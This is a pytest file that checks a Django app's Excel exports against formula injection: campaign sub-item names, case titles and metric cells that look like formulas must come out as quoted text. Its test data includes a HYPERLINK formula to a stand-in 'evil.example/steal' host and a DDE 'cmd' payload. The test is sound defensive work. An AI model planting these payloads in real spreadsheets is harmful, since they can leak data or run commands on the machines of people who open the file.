"""Issue 10 #4: text a user typed is exported as text; nothing that starts like a formula becomes one."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest
from django.test import Client

from jingzhi.campaigns import services as svc
from jingzhi.metrics.exports import workbook
from jingzhi.metrics.tables import Cell, Table
from tests.campaigns.conftest import flagship  # noqa: F401 — the campaign fixture, shared
from tests.factories import CaseFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/steal","点击查看")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text(content: bytes, wanted: list[str]) -> None:
    by_value = {c.value: c for c in _cells(content) if isinstance(c.value, str)}
    for text in wanted:
        cell = by_value.get(text.replace("\r", "\n"))  # XML itself reads a lone CR back as LF
        assert cell is not None, f"{text!r} is missing or was changed in the export"
        assert cell.data_type == "s", f"{text!r} was exported as {cell.data_type!r}, not as text"
    assert not [c for c in _cells(content) if c.data_type == "f"]


def _client(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_sub_item_named_like_a_formula_is_exported_as_text(flagship: Any  # noqa: F811
, city: Any) -> None:
    svc.sub_item_upsert(campaign=flagship.campaign, actor=city.leader, name=HYPERLINK, division=city.county_a,
                        responsible_unit=city.county_gov, metrics={"blocked": 1, "resolved": 0, "certs": 0})
    r = _client(city.leader).get(f"/campaigns/{flagship.campaign.pk}/sub-items/export.xlsx")
    assert r.status_code == 200
    _assert_text(r.content, [HYPERLINK])


def test_case_list_export_writes_titles_as_text(city: Any) -> None:
    for title in DANGEROUS:
        CaseFactory(actor=city.operator, title=title.strip() or title)
    r = _client(city.admin).get("/cases/export.xlsx?list=all")
    assert r.status_code == 200
    body = b"".join(r.streaming_content)  # type: ignore[attr-defined]
    _assert_text(body, [t.strip() for t in DANGEROUS])


def test_metric_export_keeps_the_visible_text_identical() -> None:
    table = Table(key="units", title="t", headers=["Name", "n"], rows=[[Cell(text), Cell(1)] for text in DANGEROUS])
    _assert_text(workbook([table]), DANGEROUS)


def test_quote_prefix_keeps_the_cell_text_when_edited_in_excel() -> None:
    table = Table(key="units", title="t", headers=["Name"], rows=[[Cell(HYPERLINK)]])
    cell = next(c for c in _cells(workbook([table])) if c.value == HYPERLINK)
    assert cell.quotePrefix
